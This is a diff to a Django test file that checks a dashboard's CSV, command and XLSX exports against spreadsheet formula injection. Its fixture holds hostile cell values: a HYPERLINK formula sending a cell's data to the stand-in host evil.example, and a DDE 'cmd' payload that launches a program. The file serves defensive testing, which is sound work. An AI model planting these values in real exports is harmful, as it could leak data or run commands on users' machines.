@@ -14,7 +14,8 @@ from django.test.utils import CaptureQueriesContext
 from measures.exports import COLUMNS
 from measures.models import Actual, Measure, State
 
-pytestmark = pytest.mark.django_db
+# Also run on SQLite, the embedded database of make demo (make test's second run).
+pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]
 
 Q1_REPORT = [
     "FTE-YJ",
@@ -249,3 +250,46 @@ def test_dashboard_queries_do_not_grow_with_measures_or_periods(
     large = [count_queries(client, p) for p in ("/", "/dashboard.csv", "/?view=latest")]
     assert small == large
     assert "Summary: 100 measures" in client.get("/").content.decode()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(demo) -> None:
+    """A title and a covers label a spreadsheet would run, and a genuine negative figure."""
+    Measure.objects.filter(reference="LAC-RATE").update(title=HYPERLINK)
+    q1 = Actual.objects.filter(year=2017, quarter=1)
+    q1.filter(measure__reference="CP-PLANS").update(covers_label="@SUM(1+1)*cmd|' /C calc'!A0")
+    q1.filter(measure__reference="FTE-YJ").update(value=Decimal("-4"), covers_label="-2+3")
+
+
+def test_csv_cells_that_could_run_as_formulas_get_a_quote(client: Client, hostile) -> None:
+    rows = {r["measure"]: r for r in csv_rows(client.get("/dashboard.csv").content.decode())}
+    assert rows["LAC-RATE"]["title"] == "'" + HYPERLINK
+    assert rows["CP-PLANS"]["covers"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows["FTE-YJ"]["covers"] == "'-2+3"
+    assert rows["FTE-YJ"]["actual"] == "-4"
+
+
+def test_the_command_neutralises_formulas_as_the_download_does(
+    client: Client, hostile, capsys
+) -> None:
+    call_command("export_dashboard")
+    rows = {r["measure"]: r for r in csv_rows(capsys.readouterr().out)}
+    assert rows["LAC-RATE"]["title"] == "'" + HYPERLINK
+    assert rows["FTE-YJ"]["actual"] == "-4"
+
+
+def test_xlsx_has_no_formula_and_shows_the_text_as_written(client: Client, hostile) -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/dashboard.xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_measure = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    title = by_measure["LAC-RATE"][COLUMNS.index("title")]
+    assert (title.value, title.data_type) == (HYPERLINK, "s")
+    covers = by_measure["CP-PLANS"][COLUMNS.index("covers")]
+    assert covers.value == "@SUM(1+1)*cmd|' /C calc'!A0"
+    actual = by_measure["FTE-YJ"][COLUMNS.index("actual")]
+    assert (actual.value, actual.data_type) == (-4, "n")
+    assert by_measure["LAC-RATE"][COLUMNS.index("target")].value == 45
